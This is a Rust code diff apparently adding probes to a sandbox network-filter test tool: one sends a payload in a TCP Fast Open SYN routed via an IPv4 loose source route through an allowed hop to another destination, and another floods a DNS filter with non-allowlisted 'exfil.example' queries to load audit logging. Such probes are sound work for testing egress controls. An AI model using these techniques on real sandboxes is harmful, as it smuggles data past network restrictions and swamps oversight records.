@@ -30,6 +30,15 @@ pub fn main(args: &[String]) -> i32 {
             arg(2).parse().expect("FIRST-HOP"),
             arg(3).parse().expect("FINAL:PORT"),
         ),
+        "srr" => srr(
+            arg(1).parse().expect("FIRST-HOP"),
+            arg(2).parse().expect("FINAL:PORT"),
+            arg(3),
+        ),
+        "refusedflood" => refusedflood(
+            arg(1).parse().expect("SERVER:PORT"),
+            arg(2).parse().expect("N"),
+        ),
         "dnsraw" => dnsraw(arg(1).parse().expect("SERVER:PORT"), &args[2..]),
         "tcpflood" => tcpflood(
             arg(1).parse().expect("SERVER:PORT"),
@@ -179,6 +188,68 @@ fn rthdr(kind: u8, first: std::net::Ipv6Addr, last: SocketAddr) -> serde_json::V
     ));
     std::thread::sleep(Duration::from_millis(300));
     json!({"type": kind, "opt": opt, "connect": c})
+}
+
+/// IPv4's routing header: a loose source route option (IP_OPTIONS needs no
+/// privilege). The packet is addressed to `first`, an allowed host, and
+/// carries `last` as the final destination. With TCP Fast Open and no
+/// cookie (both settable without privilege) the SYN itself carries
+/// `payload`, so the data leaves even though no handshake can complete.
+fn srr(first: std::net::Ipv4Addr, last: SocketAddr, payload: &str) -> serde_json::Value {
+    // NOP, LSRR, length 7, pointer 4, one slot: the kernel takes the first
+    // hop from it and writes the connect address in as the last hop.
+    let mut o = vec![1u8, 131, 7, 4];
+    o.extend_from_slice(&first.octets());
+    let fd = socket(
+        AddressFamily::Inet,
+        SockType::Stream,
+        SockFlag::SOCK_NONBLOCK,
+        None,
+    )
+    .expect("socket");
+    let set = |level, name, v: &[u8]| match sbx_sys::setsockopt_bytes(fd.as_fd(), level, name, v) {
+        Ok(()) => "ok".to_owned(),
+        Err(e) => e.to_string(),
+    };
+    let opt = set(nix::libc::IPPROTO_IP, nix::libc::IP_OPTIONS, &o);
+    // TCP_FASTOPEN_CONNECT (30), TCP_FASTOPEN_NO_COOKIE (34).
+    let tfo = set(nix::libc::IPPROTO_TCP, 30, &1i32.to_ne_bytes())
+        + "/"
+        + &set(nix::libc::IPPROTO_TCP, 34, &1i32.to_ne_bytes());
+    let c = errno(connect(
+        std::os::fd::AsRawFd::as_raw_fd(&fd),
+        &SockaddrStorage::from(last),
+    ));
+    let mut stream = TcpStream::from(fd);
+    let w = if payload.is_empty() {
+        "none".to_owned()
+    } else {
+        match stream.write(payload.as_bytes()) {
+            Ok(n) => format!("{n}"),
+            Err(e) => e.to_string(),
+        }
+    };
+    std::thread::sleep(Duration::from_millis(1200));
+    json!({"opt": opt, "tfo": tfo, "connect": c, "write": w})
+}
+
+/// `n` queries for distinct names that are not on the allowlist, as fast as
+/// the filter answers; each refusal may write an audit record.
+fn refusedflood(server: SocketAddr, n: usize) -> serde_json::Value {
+    let s = UdpSocket::bind("0.0.0.0:0").expect("bind");
+    s.set_read_timeout(Some(Duration::from_millis(500)))
+        .expect("timeout");
+    let t = Instant::now();
+    let (mut answered, mut buf) = (0u64, [0u8; 1024]);
+    let pad = "x".repeat(40);
+    for i in 0..n {
+        let q = query(&format!("f{i}{pad}.exfil.example."), RecordType::A);
+        let _ = s.send_to(&q, server);
+        if s.recv(&mut buf).is_ok() {
+            answered += 1;
+        }
+    }
+    json!({"sent": n, "answered": answered, "secs": t.elapsed().as_secs_f64()})
 }
 
 /// Send each hex-encoded packet over UDP; report the reply's rcode.
